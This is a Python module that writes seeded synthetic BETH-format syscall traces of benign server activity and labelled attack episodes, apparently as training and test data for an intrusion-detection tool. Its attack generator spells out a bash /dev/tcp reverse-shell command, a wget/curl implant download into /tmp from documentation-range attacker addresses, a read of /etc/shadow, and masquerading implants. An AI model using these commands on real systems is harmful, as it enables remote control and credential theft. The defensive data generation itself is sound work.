"""The synthetic labelled trace generator: seeded BETH-format (16-column) CSVs of benign and attack behaviour.

Everything it writes is made up and named so: file names start with ``synthetic_`` (``generate`` adds the
prefix when the name lacks it), hosts are ``synthetic-host-N``, packages ``synthetic-tools``, and the attackers'
addresses and the benign package mirrors come from the documentation ranges (RFC 5737). The BETH reader reads
these files; their rows get source ``synthetic``.

Benign behaviour repeats like real logs: systemd reading ``/proc/N/cgroup``, systemd-resolve on its unix
socket, nginx serving pages, postgres touching its data files, cron running ``run-parts`` or curl refreshing the
package index from a mirror, sshd logins, and administrators' ssh sessions whose ``bash`` lists directories,
tails logs, fetches packages from the mirrors with wget or curl and makes scripts executable with chmod.
Attack episodes (``evil=1``, ``sus=1``) live off the land, through the same programs: a compromised nginx worker
forks, or an attacker logged in over ssh with the administrator's password opens a shell, and ``bash -i >&
/dev/tcp/IP/PORT`` connects out, redirects its streams onto the socket and reads ``/etc/shadow``; wget or curl
downloads an implant from the attacker into ``/tmp``, chmod makes it executable, and the implant, named after a
benign daemon, beacons out and deletes itself. The events that lead to it (the login or request that opened the
door) are ``sus=1, evil=0``; each attack event records the field the attacker injected
(:func:`labelled_events`). Lines are written in chunks, so 10x or 100x files stream to disk at a steady pace.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

#: The 16 BETH columns, in order.
COLUMNS: tuple[str, ...] = (
    "timestamp", "processId", "threadId", "parentProcessId", "userId", "mountNamespace", "processName",
    "hostName", "eventId", "eventName", "stackAddresses", "argsNum", "returnValue", "args", "sus", "evil",
)
TRAIN_NAME = "synthetic_train.csv"
TEST_NAME = "synthetic_test.csv"
EVENT_IDS: dict[str, int] = {
    "read": 0, "write": 1, "close": 3, "stat": 4, "fstat": 5, "access": 21, "dup2": 33, "socket": 41,
    "connect": 42, "accept": 43, "sendto": 44, "recvfrom": 45, "getsockname": 51, "clone": 56, "execve": 59,
    "kill": 62, "unlink": 87, "chmod": 90, "setreuid": 113, "prctl": 157, "getdents64": 217, "openat": 257,
    "sched_process_exit": 1000, "security_bprm_check": 1004, "security_file_open": 1005,
}
_ATTACKERS = ("203.0.113", "198.51.100")
_PORTS = (4444, 1337, 9001, 31337, 5555)

Arg = tuple[str, str, Any]
#: (process name, pid, ppid, uid, event name, return value, args, sus, evil)
Event = tuple[str, int, int, int, str, int, list[Arg], int, int]


def _args(args: list[Arg]) -> str:
    """BETH's Python-literal args text, CSV-quoted."""
    body = ", ".join(f"{{'name': '{n}', 'type': '{t}', 'value': {v!r}}}" for n, t, v in args)
    return '"[' + body.replace('"', '""') + ']"'


def _sock(ip: str, port: int) -> Arg:
    return ("addr", "struct sockaddr*", f"{{'sa_family': 'AF_INET','sin_port': '{port}','sin_addr': '{ip}'}}")


def _unix(path: str) -> Arg:
    return ("addr", "struct sockaddr*", f"{{'sa_family': 'AF_UNIX','sun_path': '{path}'}}")


_CLONE_ARGS: list[Arg] = [("flags", "unsigned long", "CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID")]


def _conn(fd: int, addr: Arg) -> list[Arg]:
    return [("sockfd", "int", fd), addr, ("addrlen", "int", 16)]


def _io(fd: int, count: int) -> list[Arg]:
    return [("fd", "int", fd), ("buf", "void*", "0x55A0"), ("count", "size_t", count)]


def _exec(path: str, argv: list[str]) -> list[Arg]:
    return [("pathname", "const char*", path), ("argv", "const char**", argv)]


def _open(name: str, pid: int, ppid: int, uid: int, path: str, flags: str, ret: int = 3, s: int = 0,
          e: int = 0) -> Iterator[Event]:
    yield name, pid, ppid, uid, "security_file_open", 0, [
        ("pathname", "const char*", path), ("flags", "unsigned int", flags.replace("O_CLOEXEC", "O_LARGEFILE")),
        ("dev", "dev_t", 2049), ("inode", "unsigned long", 1000 + len(path) * 37)], s, e
    yield name, pid, ppid, uid, "openat", ret, [
        ("dirfd", "int", -100), ("pathname", "const char*", path), ("flags", "int", flags), ("mode", "mode_t", 0)
    ], s, e


# ------------------------------------------------------------------------------------------------ benign
#: The administrator's account and home, and the package mirrors benign downloads come from (TEST-NET-1).
ADMIN_UID = 1000
_HOME = "/home/admin"
_MIRRORS = ("192.0.2.10", "192.0.2.20")
_INET: list[Arg] = [("domain", "int", "AF_INET"), ("type", "int", "SOCK_STREAM"), ("protocol", "int", 0)]
_DIRP: list[Arg] = [("fd", "int", 3), ("dirp", "struct linux_dirent64*", "0x55D1")]


def _execs(name: str, pid: int, ppid: int, uid: int, path: str, argv: list[str]) -> Iterator[Event]:
    """An execve and the kernel's check of the new binary (BETH logs both)."""
    yield name, pid, ppid, uid, "execve", 0, _exec(path, argv), 0, 0
    yield name, pid, ppid, uid, "security_bprm_check", 0, [("pathname", "const char*", path)], 0, 0


def _exit(name: str, pid: int, ppid: int, uid: int) -> Event:
    return name, pid, ppid, uid, "sched_process_exit", 0, [], 0, 0


def _systemd(r: random.Random) -> Iterator[Event]:
    target = r.randint(300, 9000)
    yield from _open("systemd", 1, 0, 0, f"/proc/{target}/cgroup", "O_RDONLY|O_CLOEXEC", ret=r.randint(14, 40))
    yield "systemd", 1, 0, 0, "fstat", 0, [("fd", "int", 14), ("statbuf", "struct stat*", "0x7FFD0A3C2F10")], 0, 0
    yield "systemd", 1, 0, 0, "close", 0, [("fd", "int", 14)], 0, 0


def _resolved(r: random.Random) -> Iterator[Event]:
    pid = 380 + r.randint(0, 5)
    yield "systemd-resolve", pid, 1, 101, "socket", 15, [
        ("domain", "int", "AF_UNIX"), ("type", "int", "SOCK_DGRAM|SOCK_CLOEXEC"), ("protocol", "int", 0)], 0, 0
    yield "systemd-resolve", pid, 1, 101, "connect", 0, [
        ("sockfd", "int", 15), _unix("/run/systemd/journal/socket"), ("addrlen", "int", 29)], 0, 0
    yield from _open("systemd-resolve", pid, 1, 101, f"/run/systemd/netif/links/{r.randint(2, 5)}",
                     "O_RDONLY|O_CLOEXEC", ret=15)
    yield "systemd-resolve", pid, 1, 101, "close", 0, [("fd", "int", 15)], 0, 0


def _client(r: random.Random) -> tuple[str, int]:
    return f"10.100.{r.randint(0, 3)}.{r.randint(2, 250)}", r.randint(32768, 60999)


def _login(r: random.Random, pid: int, sus: int = 0, peer: tuple[str, int] | None = None) -> Iterator[Event]:
    """sshd accepting a connection and its session process authenticating the user (uid 1000)."""
    ip, port = peer or _client(r)
    yield "sshd", 720, 1, 0, "accept", 5, _conn(3, _sock(ip, port)), sus, 0
    yield "sshd", 720, 1, 0, "clone", pid, [("flags", "unsigned long", "CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID"),
                                             ("stack", "void*", "0x0")], sus, 0
    yield from _open("sshd", pid, 720, 0, "/etc/ssh/sshd_config", "O_RDONLY|O_CLOEXEC", s=sus)
    yield from _open("sshd", pid, 720, 0, "/etc/passwd", "O_RDONLY|O_CLOEXEC", s=sus)
    yield "sshd", pid, 720, 0, "getsockname", 0, [("sockfd", "int", 5), _sock("10.100.1.5", 22)], sus, 0
    yield "sshd", pid, 720, 0, "setreuid", 0, [("ruid", "uid_t", -1), ("euid", "uid_t", ADMIN_UID)], sus, 0


def _sshd(r: random.Random) -> Iterator[Event]:
    """A login without a shell (scp, a port check) that ends at once."""
    pid = r.randint(1000, 30000)
    yield from _login(r, pid)
    yield _exit("sshd", pid, 720, ADMIN_UID)


def _download(r: random.Random, pid: int, ppid: int, uid: int, tool: str, url: str, dest: str,
              peer: tuple[str, int]) -> Iterator[Event]:
    """wget or curl fetching ``url`` from ``peer`` into ``dest``."""
    argv = ["wget", "-q", url, "-O", dest] if tool == "wget" else ["curl", "-s", "-o", dest, url]
    yield from _execs(tool, pid, ppid, uid, f"/usr/bin/{tool}", argv)
    yield tool, pid, ppid, uid, "socket", 3, _INET, 0, 0
    yield tool, pid, ppid, uid, "connect", 0, _conn(3, _sock(*peer)), 0, 0
    yield from _open(tool, pid, ppid, uid, dest, "O_WRONLY|O_CREAT|O_TRUNC", ret=4)
    for _ in range(r.randint(1, 2)):
        yield tool, pid, ppid, uid, "write", 65536, _io(4, 65536), 0, 0
    yield _exit(tool, pid, ppid, uid)


def _chmod(pid: int, ppid: int, uid: int, path: str) -> Iterator[Event]:
    """``chmod +x path``."""
    yield from _execs("chmod", pid, ppid, uid, "/usr/bin/chmod", ["chmod", "+x", path])
    yield "chmod", pid, ppid, uid, "chmod", 0, [("pathname", "const char*", path), ("mode", "mode_t", "S_IRWXU")], 0, 0
    yield _exit("chmod", pid, ppid, uid)


def _package(r: random.Random) -> tuple[str, str]:
    """A benign package's mirror URL and its file name."""
    name = f"synthetic-tools_1.{r.randint(0, 9)}_amd64.deb"
    return f"http://{r.choice(_MIRRORS)}/debian/pool/main/s/synthetic-tools/{name}", name


def _admin_command(r: random.Random, sh: int, pp: int) -> Iterator[Event]:
    """One command of the administrator's shell: a listing, a log tail, a package download, a chmod."""
    uid, c = ADMIN_UID, r.randint(1000, 30000)
    yield "bash", sh, pp, uid, "clone", c, _CLONE_ARGS, 0, 0
    kind = r.choice(("ls", "ls", "tail", "fetch", "fetch", "chmod"))
    if kind == "ls":
        d = r.choice(("/var/log/nginx", "/var/www/html", _HOME, "/root"))
        yield from _execs("ls", c, sh, uid, "/usr/bin/ls", ["ls", "-la", d])
        if d == "/root":  # without sudo: permission denied
            yield from _open("ls", c, sh, uid, d, "O_RDONLY|O_NONBLOCK|O_CLOEXEC|O_DIRECTORY", ret=-13)
        else:
            yield from _open("ls", c, sh, uid, d, "O_RDONLY|O_NONBLOCK|O_CLOEXEC|O_DIRECTORY")
            yield "ls", c, sh, uid, "getdents64", 96, _DIRP, 0, 0
        yield _exit("ls", c, sh, uid)
    elif kind == "tail":
        log_file = r.choice(("/var/log/nginx/access.log", "/var/log/nginx/error.log", "/var/log/syslog"))
        yield from _execs("tail", c, sh, uid, "/usr/bin/tail", ["tail", "-n", "50", log_file])
        yield from _open("tail", c, sh, uid, log_file, "O_RDONLY")
        yield "tail", c, sh, uid, "read", 8192, _io(3, 8192), 0, 0
        yield "tail", c, sh, uid, "write", 4096, _io(1, 4096), 0, 0
        yield _exit("tail", c, sh, uid)
    elif kind == "fetch":
        url, name = _package(r)
        mirror = url.split("/")[2]
        yield from _download(r, c, sh, uid, r.choice(("wget", "curl")), url, f"{_HOME}/{name}", (mirror, 80))
    else:
        yield from _chmod(c, sh, uid, f"{_HOME}/scripts/{r.choice(('deploy', 'backup', 'rotate-logs'))}.sh")


def _admin(r: random.Random) -> Iterator[Event]:
    """An administrator's ssh session: the login, a login shell, one to three commands, the logout."""
    pid, sh = r.randint(1000, 30000), r.randint(1000, 30000)
    yield from _login(r, pid)
    yield "sshd", pid, 720, ADMIN_UID, "clone", sh, _CLONE_ARGS, 0, 0
    yield from _execs("bash", sh, pid, ADMIN_UID, "/bin/bash", ["-bash"])
    yield from _open("bash", sh, pid, ADMIN_UID, "/etc/passwd", "O_RDONLY|O_CLOEXEC")
    yield from _open("bash", sh, pid, ADMIN_UID, f"{_HOME}/.bashrc", "O_RDONLY")
    for _ in range(r.randint(1, 3)):
        yield from _admin_command(r, sh, pid)
    yield _exit("bash", sh, pid, ADMIN_UID)
    yield _exit("sshd", pid, 720, ADMIN_UID)


def _cron(r: random.Random) -> Iterator[Event]:
    """cron's jobs as root: ``run-parts`` over a cron directory, or curl refreshing the package index."""
    sh, child = r.randint(1000, 30000), r.randint(1000, 30000)
    part = r.choice(("hourly", "hourly", "daily", "index"))
    yield "cron", 650, 1, 0, "clone", sh, _CLONE_ARGS, 0, 0
    if part == "index":
        mirror = r.choice(_MIRRORS)
        url = f"http://{mirror}/debian/dists/stable/main/binary-amd64/Packages.gz"
        dest = "/var/cache/synthetic-apt/Packages.gz"
        yield from _execs("sh", sh, 650, 0, "/bin/sh", ["/bin/sh", "-c", f"curl -s -o {dest} {url}"])
        yield "sh", sh, 650, 0, "clone", child, _CLONE_ARGS, 0, 0
        yield from _download(r, child, sh, 0, "curl", url, dest, (mirror, 80))
    else:
        job = f"/etc/cron.{part}"
        yield from _execs("sh", sh, 650, 0, "/bin/sh", ["/bin/sh", "-c", f"run-parts --report {job}"])
        yield "sh", sh, 650, 0, "clone", child, _CLONE_ARGS, 0, 0
        yield from _execs("run-parts", child, sh, 0, "/bin/run-parts", ["run-parts", "--report", job])
        yield from _open("run-parts", child, sh, 0, job, "O_RDONLY|O_NONBLOCK|O_CLOEXEC|O_DIRECTORY")
        yield "run-parts", child, sh, 0, "getdents64", 96, _DIRP, 0, 0
        yield _exit("run-parts", child, sh, 0)
    yield _exit("sh", sh, 650, 0)


_PAGES = ("/var/www/html/index.html", "/var/www/html/about.html", "/var/www/html/static/app.js",
          "/var/www/html/static/style.css", "/var/www/html/favicon.ico")


def _nginx(r: random.Random) -> Iterator[Event]:
    worker = 900 + r.randint(0, 3)
    yield "nginx", worker, 899, 33, "accept", 9, _conn(6, _sock(*_client(r))), 0, 0
    page = r.choice(_PAGES)
    if r.random() < 0.1:
        missing: list[Arg] = [("dirfd", "int", -100), ("pathname", "const char*", "/var/www/html/robots.txt"),
                              ("flags", "int", "O_RDONLY|O_NONBLOCK")]
        yield "nginx", worker, 899, 33, "openat", -2, missing, 0, 0
    else:
        yield from _open("nginx", worker, 899, 33, page, "O_RDONLY|O_NONBLOCK", ret=10)
        yield "nginx", worker, 899, 33, "fstat", 0, [("fd", "int", 10), ("statbuf", "struct stat*", "0x7FFE1")], 0, 0
        yield "nginx", worker, 899, 33, "close", 0, [("fd", "int", 10)], 0, 0
    yield "nginx", worker, 899, 33, "write", 96, _io(4, 96), 0, 0
    yield "nginx", worker, 899, 33, "close", 0, [("fd", "int", 9)], 0, 0


def _postgres(r: random.Random) -> Iterator[Event]:
    pid = r.randint(1000, 30000)
    yield "postgres", pid, 1100, 112, "connect", 0, [("sockfd", "int", 8), _unix("/var/run/postgresql/.s.PGSQL.5432"),
                                                     ("addrlen", "int", 110)], 0, 0
    for _ in range(r.randint(1, 3)):
        rel = r.choice((1259, 1249, 2608, 16384, 16385, 16390))
        yield from _open("postgres", pid, 1100, 112, f"/var/lib/postgresql/14/main/base/16384/{rel}", "O_RDWR", ret=12)
        yield "postgres", pid, 1100, 112, "read", 8192, _io(12, 8192), 0, 0
    if r.random() < 0.2:  # a sort spilled to a temporary file, removed when done
        tmp = f"/var/lib/postgresql/14/main/base/pgsql_tmp/pgsql_tmp{pid}.0"
        yield from _open("postgres", pid, 1100, 112, tmp, "O_RDWR|O_CREAT|O_TRUNC", ret=13)
        yield "postgres", pid, 1100, 112, "write", 8192, _io(13, 8192), 0, 0
        yield "postgres", pid, 1100, 112, "unlink", 0, [("pathname", "const char*", tmp)], 0, 0
    yield "postgres", pid, 1100, 112, "write", 8192, _io(9, 8192), 0, 0
    yield "postgres", pid, 1100, 112, "stat", 0, [("pathname", "const char*", "/var/lib/postgresql/14/main/pg_wal"),
                                                  ("statbuf", "struct stat*", "0x7FFC2")], 0, 0


#: (scenario, weight): many repeats of a few routines, like real hosts.
BENIGN: tuple[tuple[Callable[[random.Random], Iterator[Event]], int], ...] = (
    (_systemd, 30), (_resolved, 20), (_nginx, 25), (_postgres, 15), (_cron, 6), (_admin, 5), (_sshd, 2),
)


# ------------------------------------------------------------------------------------------------ attack
#: The event fields an attack step can inject (canonical columns of :data:`aptray.schema.EVENT_SCHEMA`, parts
#: :mod:`aptray.triage.attribute` tries one at a time).
INJECTABLE = ("action", "object_path", "object_addr", "args")
#: Per program the attack runs the way benign routines do, the field of each of its steps that carries the
#: attacker's choice, by action; steps not listed (the forks, the binary checks of system tools, writes, exits)
#: are routine, read as an administrator's would, and are left out of the episode.
_TOOL_STEPS: dict[str, str] = {"execve": "args", "connect": "object_addr", "security_file_open": "object_path",
                               "openat": "object_path", "chmod": "object_path"}
#: What an implant may call itself: the name of a benign daemon (masquerading, MITRE ATT&CK T1036.005).
_MASQUERADE = ("postgres", "systemd-resolve", "cron")


def _attack(steps: Iterator[Event], labels: dict[str, str]) -> Iterator[tuple[Event, str]]:
    """The labelled attack steps of a routine run by the attacker (``evil=1``, ``sus=1``): each event whose action
    ``labels`` names, with that field; the others are dropped."""
    for name, pid, ppid, uid, action, ret, args, _, _ in steps:
        if action in labels:
            yield (name, pid, ppid, uid, action, ret, args, 1, 1), labels[action]


def _reverse_shell(r: random.Random) -> Iterator[tuple[Event, str | None]]:
    """The attack episode, each event with the field that carries its injected behaviour (None: not an attack event).

    The attacker lives off the land: the shell, wget or curl and chmod are the programs the administrator and
    cron run, so each step's field is the value the attacker chose, decided from what the step injects and not
    from any measurement: the command line a program runs (the reverse shell, the download of the implant, its
    chmod), the address it connects to, the file it opens, changes or deletes (``/etc/shadow``, the ``/tmp``
    implant); and the action itself where the operation is one no benign routine of that process performs (a web
    worker forking, a shell opening an inet socket or redirecting its streams onto it). The implant takes a
    benign daemon's name; its steps' fields are the implant's path and the attacker's address.
    """
    ip = f"{r.choice(_ATTACKERS)}.{r.randint(2, 254)}"
    port, stage2 = r.choice(_PORTS), r.choice(_PORTS)
    name = r.choice(_MASQUERADE)
    drop = f"/tmp/.{r.choice(('x', 'cache', 'sysd', 'font-unix'))}{r.randint(10, 99)}/{name}"
    sh = r.randint(1000, 30000)
    if r.random() < 0.5:  # the door: a login from the attacker with the admin's password, suspicious, not evil
        parent, uid = r.randint(1000, 30000), ADMIN_UID
        for ev in _login(r, parent, sus=1, peer=(ip, r.randint(32768, 60999))):
            yield ev, None
        yield ("sshd", parent, 720, uid, "clone", sh, _CLONE_ARGS, 1, 0), None  # the login's shell
    else:  # the door: a request exploiting the web application; its worker forking a shell is the attack
        parent, uid = 900 + r.randint(0, 3), 33
        yield ("nginx", parent, 899, 33, "accept", 9, _conn(6, _sock(ip, r.randint(32768, 60999))), 1, 0), None
        yield ("nginx", parent, 899, 33, "clone", sh, _CLONE_ARGS, 1, 1), "action"
    cmd = f"bash -i >& /dev/tcp/{ip}/{port} 0>&1"
    yield ("bash", sh, parent, uid, "execve", 0, _exec("/bin/bash", ["bash", "-c", cmd]), 1, 1), "args"
    yield ("bash", sh, parent, uid, "socket", 3, _INET, 1, 1), "action"
    yield ("bash", sh, parent, uid, "connect", 0, _conn(3, _sock(ip, port)), 1, 1), "object_addr"
    for fd in (0, 1):
        yield ("bash", sh, parent, uid, "dup2", fd, [("oldfd", "int", 3), ("newfd", "int", fd)], 1, 1), "action"
    for ev in _open("bash", sh, parent, uid, "/etc/shadow", "O_RDONLY", ret=-13, s=1, e=1):
        yield ev, "object_path"
    url = f"http://{ip}:8080/{r.choice(('x', 'payload', 'k'))}"
    yield from _attack(_download(r, r.randint(1000, 30000), sh, uid, r.choice(("wget", "curl")), url, drop,
                                 (ip, 8080)), _TOOL_STEPS)
    yield from _attack(_chmod(r.randint(1000, 30000), sh, uid, drop), _TOOL_STEPS)
    imp = r.randint(1000, 30000)
    yield (name, imp, sh, uid, "execve", 0, _exec(drop, [name]), 1, 1), "object_path"
    yield (name, imp, sh, uid, "security_bprm_check", 0, [("pathname", "const char*", drop)], 1, 1), "object_path"
    for _ in range(r.randint(2, 4)):
        yield (name, imp, sh, uid, "connect", 0, _conn(5, _sock(ip, stage2)), 1, 1), "object_addr"
    yield (name, imp, sh, uid, "unlink", 0, [("pathname", "const char*", drop)], 1, 1), "object_path"


# ------------------------------------------------------------------------------------------------ writer
def _choose(r: random.Random) -> Callable[[random.Random], Iterator[Event]]:
    total = sum(w for _, w in BENIGN)
    x = r.random() * total
    for fn, w in BENIGN:
        x -= w
        if x < 0:
            return fn
    return BENIGN[-1][0]


def labelled_events(n_events: int, seed: int = 0, attack_fraction: float = 0.02
                    ) -> Iterator[tuple[Event, str | None]]:
    """The first ``n_events`` events of the seeded trace, each with its injected field (an attack event's field
    of :data:`INJECTABLE` that carries the attack; None for every other event)."""
    if not 0 <= attack_fraction < 1:
        raise ValueError("attack_fraction must be in [0, 1)")
    r = random.Random(seed)
    written = evil = 0
    while written < n_events:
        attack = attack_fraction > 0 and evil < attack_fraction * (written + 30) and r.random() < 0.2
        steps = _reverse_shell(r) if attack else ((ev, None) for ev in _choose(r)(r))
        for ev, injected in steps:
            if written >= n_events:
                return
            written += 1
            evil += ev[8]
            yield ev, injected


def events(n_events: int, seed: int = 0, attack_fraction: float = 0.02) -> Iterator[Event]:
    """The first ``n_events`` events of the seeded trace (about ``attack_fraction`` of them ``evil``)."""
    for ev, _ in labelled_events(n_events, seed, attack_fraction):
        yield ev


def injected_fields(n_events: int, seed: int = 0, attack_fraction: float = 0.02) -> dict[int, str]:
    """The injected field of every attack event of the trace :func:`generate` writes with these arguments, by the
    event's 1-based line in the file (the header is line 1): the ``line`` of its scored row."""
    return {i + 2: f for i, (_, f) in enumerate(labelled_events(n_events, seed, attack_fraction)) if f is not None}


def generate(path: str | Path, n_events: int, seed: int = 0, attack_fraction: float = 0.02,
             host: str = "synthetic-host-1", chunk_rows: int = 20_000) -> dict[str, Any]:
    """Write a labelled BETH-format CSV of ``n_events`` synthetic events (streamed, in chunks).

    Args:
        path: output file; its name gets the ``synthetic_`` prefix when it lacks it.
        n_events: rows to write (the header is extra).
        seed: the same seed writes the same bytes.
        attack_fraction: about this share of rows are attack events (``evil=1``); 0 writes benign only.
        host: ``hostName`` of every row.
        chunk_rows: lines buffered per write.

    Returns:
        ``{"path": ..., "rows": ..., "evil": ..., "sus": ...}``.
    """
    out = Path(path)
    if not out.name.startswith("synthetic_"):
        out = out.with_name(f"synthetic_{out.name}")
    out.parent.mkdir(parents=True, exist_ok=True)
    r = random.Random(seed + 1_000_003)  # timing and stacks: separate stream from the behaviour
    ts = 100.0
    rows = evil = sus = 0
    stacks: dict[str, str] = {}
    with open(out, "w", encoding="utf-8", newline="") as fh:
        fh.write(",".join(COLUMNS) + "\n")
        buf: list[str] = []
        for name, pid, ppid, uid, ev, ret, args, s, e in events(n_events, seed, attack_fraction):
            ts += r.expovariate(200.0)
            stack = stacks.get(name)
            if stack is None:
                base = r.randint(93_000_000_000_000, 140_000_000_000_000)
                stack = stacks[name] = f'"[{base}, {base + r.randint(1000, 99999)}]"'
            ns = 4026531840 if uid >= 1000 else 4026532231
            buf.append(f"{ts:.6f},{pid},{pid},{ppid},{uid},{ns},{name},{host},{EVENT_IDS[ev]},{ev},{stack},"
                       f"{len(args)},{ret},{_args(args)},{s},{e}\n")
            rows += 1
            evil += e
            sus += s
            if len(buf) >= chunk_rows:
                fh.write("".join(buf))
                buf = []
        fh.write("".join(buf))
    return {"path": str(out), "rows": rows, "evil": evil, "sus": sus}


def default_demo_input(directory: str | Path, train_events: int = 3000, test_events: int = 2000,
                       seed: int = 0) -> tuple[Path, Path]:
    """Write the demo's default input in ``directory``: a benign-only ``synthetic_train.csv`` and a
    ``synthetic_test.csv`` with attacks (rewritten each time: it is fast and deterministic).

    Returns:
        ``(train file, test file)``.
    """
    root = Path(directory)
    train, test = root / TRAIN_NAME, root / TEST_NAME
    generate(train, train_events, seed=seed, attack_fraction=0.0)
    generate(test, test_events, seed=seed + 1, attack_fraction=0.05)
    return train, test
